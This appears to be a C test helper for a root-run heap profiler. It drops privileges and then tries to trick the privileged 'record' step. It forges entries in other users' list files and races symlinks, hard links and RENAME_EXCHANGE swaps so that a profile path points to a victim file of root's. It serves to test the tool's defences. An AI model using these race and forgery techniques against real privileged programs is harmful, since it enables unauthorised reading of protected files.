// A worker of root's that gives up its rights and then turns against `record`: it says that a
// profile of its own was written, and while `record` reads that it has the profile's name, or its
// folder's, lead to a file of root's.
//
// forger FOLDER VICTIM HOW: FOLDER holds d/p.pb.gz; HOW is name, folder or hard (as soon as record
// opens it), late (when it does so again, to read it), swap or round (all the time), none, or list
// (nothing but the word that VICTIM was written).
#define _GNU_SOURCE
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <time.h>
#include <unistd.h>

static char folder[400], profile[500], other[500];

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static void turn(const char *how, const char *victim) {
    char at[700];
    snprintf(at, sizeof at, "%s/link", folder);
    unlink(at);
    if (!strcmp(how, "folder")) {
        char dir[700], parent[700];
        snprintf(dir, sizeof dir, "%s/d", folder);
        snprintf(parent, sizeof parent, "%s", victim);
        *strrchr(parent, '/') = 0;
        if (!symlink(parent, at) && !rename(dir, other)) rename(at, dir);
        return;
    }
    if (!strcmp(how, "hard") ? link(victim, at) : symlink(victim, at)) return;
    rename(at, profile);
}

// What another user's file of the list holds is not for us to say.
static void forge(const char *list, const char *entry, int length) {
    char path[700];
    for (int user = 0; user < 2; user++) {
        snprintf(path, sizeof path, "%s/%d", list, user);
        int fd = open(path, O_WRONLY | O_APPEND);
        if (fd >= 0 && write(fd, entry, length) == length) fprintf(stderr, "FORGED %s\n", path);
    }
}

int main(int argc, char **argv) {
    // Something to be recorded.
    void *volatile block = malloc(1000);
    free(block);
    if (argc != 4) return 9;
    const char *list = getenv("HEAPPROF_LIST"), *how = argv[3];
    char entry[800], path[700];
    snprintf(folder, sizeof folder, "%s", argv[1]);
    snprintf(profile, sizeof profile, "%s/d/p.pb.gz", folder);
    snprintf(other, sizeof other, "%s/was", folder);
    if (setgroups(0, 0) || setresgid(65534, 65534, 65534) || setresuid(65534, 65534, 65534)) return 8;
    int length = snprintf(entry, sizeof entry, "4242 1 1 100 1000000000 1000000000 5 0 %s",
                          !strcmp(how, "list") ? argv[2] : profile) + 1;
    forge(list, entry, length);
    snprintf(path, sizeof path, "%s/65534", list);
    int fd = open(path, O_WRONLY | O_APPEND | O_CREAT, 0600);
    if (fd < 0 || write(fd, entry, length) != length) return 7;
    close(fd);
    // It outlives the program.
    if (fork() == 0) {
        setsid();
        int watch = inotify_init1(0);
        inotify_add_watch(watch, profile, IN_OPEN);
        if (!strcmp(how, "swap") || !strcmp(how, "round")) {
            // At no moment of its own: the name is now the profile's and now a link.
            char dir[700], parent[700], at[700];
            snprintf(at, sizeof at, "%s/link", folder);
            snprintf(dir, sizeof dir, "%s/d", folder);
            snprintf(parent, sizeof parent, "%s", argv[2]);
            *strrchr(parent, '/') = 0;
            int whole = !strcmp(how, "round");
            if (symlink(whole ? parent : argv[2], at)) _exit(1);
            for (double end = now() + 0.5; now() < end;)
                renameat2(AT_FDCWD, whole ? dir : profile, AT_FDCWD, at, RENAME_EXCHANGE);
            _exit(0);
        }
        int opens = !strcmp(how, "late") ? 2 : 1;
        struct pollfd ready = {watch, POLLIN, 0};
        while (opens > 0 && poll(&ready, 1, 2000) > 0)
            opens -= read(watch, entry, sizeof entry) / sizeof(struct inotify_event);
        if (strcmp(how, "none") && strcmp(how, "list")) turn(how, argv[2]);
        _exit(0);
    }
    _exit(0);
}
